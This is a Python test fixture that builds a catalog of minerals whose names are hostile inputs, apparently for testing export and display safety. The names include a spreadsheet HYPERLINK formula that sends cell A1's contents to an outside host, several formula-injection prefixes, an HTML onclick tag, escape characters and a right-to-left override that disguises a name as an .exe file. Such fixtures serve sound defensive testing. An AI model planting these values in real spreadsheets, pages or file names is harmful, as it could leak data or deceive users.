"""Catalog of names that are more than names: formulas, markup, control characters, and too long."""

from typing import Final

from mineralpact.catalog import Catalog
from mineralpact.model import Mineral
from mineralpact.values import MineralId

FORMULA: Final = '=HYPERLINK("https://example.org/?"&A1,"cheap ore")'
NAMES: Final = (
    FORMULA,
    "+1-800",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    'quotes " and \' and, commas; and "; " marks',
    "<b onclick='x()'>bold</b> & <![CDATA[ ]]>",
    "a line\nand another\r\nand a last\rone",
    "bell \x07, escape \x1b[31m, noncharacter \uffff",
    "_x0041_ is no A",
    "https://example.org",
    "mailto:ore@example.org",
    "00123",
    "1e5",
    "2024-11-14",
    "TRUE",
    "x" * 40_000,
    "\U0001f48e" * 20_000,
    "\u65e5\u672c \u202etxt.exe",
)
"""The names; the first eight begin as formulas do."""
RISKY: Final = NAMES[:8]


def hostile_catalog() -> Catalog:
    """Return a catalog with a mineral of each name, which is among its aliases too."""
    minerals: list[Mineral] = []
    for number, name in enumerate(NAMES):
        mineral = Mineral(
            id=MineralId(f"mineral-{number:02}"),
            name=name,
            aliases=(name, "second"),
            uses=("=2", name),
        )
        minerals.append(mineral)
    return Catalog(minerals)
